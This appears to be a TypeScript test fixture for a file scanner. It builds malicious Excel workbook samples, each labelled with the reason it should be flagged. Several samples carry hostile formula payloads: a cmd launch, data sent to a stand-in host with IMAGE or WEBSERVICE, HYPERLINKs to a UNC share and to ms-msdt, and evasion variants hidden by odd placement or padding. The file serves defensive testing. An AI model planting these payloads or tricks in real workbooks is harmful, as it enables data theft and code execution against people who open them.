/** Attacks that only a workbook (`.xlsx`) can contain: macros, formulas, queries and links to other workbooks. */
import { type MaliciousFile, XLSX } from "./malicious-file.ts";
import { buildOfficeDocument } from "./office-documents.ts";

/** Builds workbooks that compute, run or fetch what they must not. */
export const buildWorkbookAttacks = (): MaliciousFile[] => [
  {
    name: "a sheet of Excel 4 macros",
    bytes: buildOfficeDocument(XLSX, { "xl/macrosheets/sheet1.xml": "<a/>" }),
    reasons: ["officeMacro"],
  },
  {
    name: "a link to another workbook",
    bytes: buildOfficeDocument(XLSX, { "xl/externalLinks/externalLink1.xml": "<a/>" }),
    reasons: ["officeLinked"],
  },
  {
    name: "a query of a database",
    bytes: buildOfficeDocument(XLSX, { "xl/connections.xml": "<a/>" }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that starts a program",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>",
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that sends data away",
    bytes: buildOfficeDocument(XLSX, { "xl/worksheets/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that fetches a picture",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": '<c><f>_xlfn.IMAGE("https://evil.example/?"&amp;A1)</f></c>',
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that links to a share",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("\\\\evil\\share","invoice")</f></c>',
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that links to a program",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("ms-msdt:"&amp;A1)</f></c>',
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that links to a share, in pieces",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("\\"&amp;CHAR(92)&amp;"evil\\share","invoice")</f></c>',
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that sends data away, on a sheet in another folder",
    bytes: buildOfficeDocument(XLSX, { "docProps/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that sends data away, on a sheet that is called a picture",
    bytes: buildOfficeDocument(XLSX, {
      "xl/media/image1.png": "\ufeff <c><f>WEBSERVICE(A1)</f></c>",
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that sends data away, under a prefix of other letters",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": "<表:c><表:f>WEBSERVICE(A1)</表:f></表:c>",
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula that sends data away, around an element that Excel skips",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": "<c><f>WEB<z:a/>SERVICE(A1)</f></c>",
    }),
    reasons: ["fileBroken"],
  },
  {
    name: "a formula that computes a formula",
    bytes: buildOfficeDocument(XLSX, {
      "xl/workbook.xml":
        '<workbook><definedName name="a">EVALUATE("WEB"&amp;"SERVICE(Sheet1!A1)")</definedName></workbook>',
    }),
    reasons: ["officeMacro"],
  },
  {
    name: "a formula behind spaces without an end",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": `<c><f ${" ".repeat(100_000)}<f>WEBSERVICE(A1)</f></c>`,
    }),
    reasons: ["officeLinked"],
  },
  {
    name: "a formula in another language",
    bytes: buildOfficeDocument(XLSX, {
      "xl/worksheets/sheet1.xml": "<c><f>_xlfn._xlws.PY(0,1,A1)</f></c>",
    }),
    reasons: ["officeMacro"],
  },
  {
    name: "pictures of the web",
    bytes: buildOfficeDocument(XLSX, { "xl/richData/rdRichValueWebImage.xml": "<webImagesSrd/>" }),
    reasons: ["officeLinked"],
  },
  {
    name: "a query of the web",
    bytes: buildOfficeDocument(XLSX, {
      "customXml/item1.xml": Buffer.from(
        '\ufeff<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
        "utf16le",
      ),
    }),
    reasons: ["officeLinked"],
  },
];
